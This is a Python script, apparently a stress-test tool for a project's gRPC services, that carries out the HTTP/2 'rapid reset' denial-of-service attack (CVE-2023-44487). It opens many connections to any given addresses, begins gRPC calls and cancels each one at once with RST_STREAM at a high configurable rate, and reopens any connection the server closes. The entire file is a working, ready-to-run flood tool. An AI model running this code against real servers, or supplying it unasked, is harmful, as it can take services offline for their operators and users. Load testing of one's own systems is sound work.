#!/usr/bin/env python3
"""A hostile peer: connections that begin calls and reset each at once ("rapid reset", CVE-2023-44487), until it is killed.

usage: reset_flood.py ADDRESS... [--connections N] [--rate CALLS] [--tls FOLDER --certificate NAME]

Each address gets N connections, each of which begins CALLS calls a second. A connection that is closed is opened again. With --tls the
connections present NAME.crt of the folder and no token. Prints "ready" once every connection is open, then each second the calls begun and
the connections opened again.
"""
import argparse
import os
import select
import socket
import ssl
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
TICK = 0.05  # s between two bursts of a connection


def frame(kind, flags, stream, payload):
    """RFC 9113, 4.1."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def field(name, value):
    """A header field that is not indexed, with a new name (RFC 7541, 6.2.2)."""
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


METHODS = [b"".join((field(b":method", b"POST"), field(b":scheme", b"http"), field(b":path", path), field(b":authority", b"x"),
                     field(b"te", b"trailers"), field(b"content-type", b"application/grpc")))
           for path in (b"/datacom.v1.Replay/Insert", b"/datacom.v1.Learner/Lease")]
CANCEL = (8).to_bytes(4, "big")


def call(stream):
    return frame(HEADERS, 4, stream, METHODS[stream // 2 % 2]) + frame(RST_STREAM, 0, stream, CANCEL)


class Connection:
    def __init__(self, address, context, bursts):
        self.address, self.context, self.bursts = address, context, bursts
        self.socket, self.at, self.left = None, 0, b""

    def open(self):
        host, port = self.address.rsplit(":", 1)
        plain = socket.create_connection((host, int(port)), timeout=5)
        self.socket = plain if self.context is None else self.context.wrap_socket(plain, server_hostname="datacom")
        self.socket.setblocking(False)
        self.at, self.left = 0, PREFACE + frame(SETTINGS, 0, 0, b"")

    def send(self):
        """Calls begun; raises OSError when the other end has closed the connection."""
        begun = 0
        if not self.left and self.at < len(self.bursts):
            self.left, begun = self.bursts[self.at]
            self.at += 1
        try:
            self.left = self.left[self.socket.send(self.left):]
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        return begun

    def read(self):
        """Drops the answers; raises OSError when the other end has closed the connection."""
        try:
            if not self.socket.recv(1 << 16):
                raise ConnectionResetError("closed")
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass

    def close(self):
        self.socket.close()
        self.socket = None

    def fileno(self):
        return self.socket.fileno()


def attempt(connection):
    try:
        connection.open()
        return True
    except OSError:
        connection.socket = None
        return False


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("addresses", nargs="+", metavar="ADDRESS")
    parser.add_argument("--connections", type=int, default=150)
    parser.add_argument("--rate", type=int, default=900)
    parser.add_argument("--tls")
    parser.add_argument("--certificate", default="tls")
    arguments = parser.parse_args()
    context = None
    if arguments.tls:
        context = ssl.create_default_context(cafile=os.path.join(arguments.tls, "ca.crt"))
        context.set_alpn_protocols(["h2"])
        context.load_cert_chain(*(os.path.join(arguments.tls, arguments.certificate + ending) for ending in (".crt", ".key")))
    per_burst = max(1, round(arguments.rate * TICK))
    stream, bursts = 1, []
    for _ in range(2000):  # 100 s of a connection; then it only stays open
        bursts.append((b"".join(call(stream + 2 * i) for i in range(per_burst)), per_burst))
        stream += 2 * per_burst
    connections = [Connection(address, context, bursts) for address in arguments.addresses for _ in range(arguments.connections)]
    for connection in connections:
        attempt(connection)
    print("ready", flush=True)
    begun = again = 0
    report = time.monotonic() + 1
    due = time.monotonic()
    while True:
        for connection in connections:
            try:
                if connection.socket is None and not attempt(connection):
                    continue
                begun += connection.send()
            except OSError:
                connection.close()
                again += 1
        due = max(due + TICK, time.monotonic())
        while (left := due - time.monotonic()) > 0:
            for connection in select.select([one for one in connections if one.socket is not None], [], [], left)[0]:
                try:
                    connection.read()
                except OSError:
                    connection.close()
                    again += 1
        if time.monotonic() >= report:
            print(f"{begun} calls, {again} connections closed", flush=True)
            begun = again = 0
            report = time.monotonic() + 1


if __name__ == "__main__":
    main()
# SPDX-License-Identifier: Apache-2.0
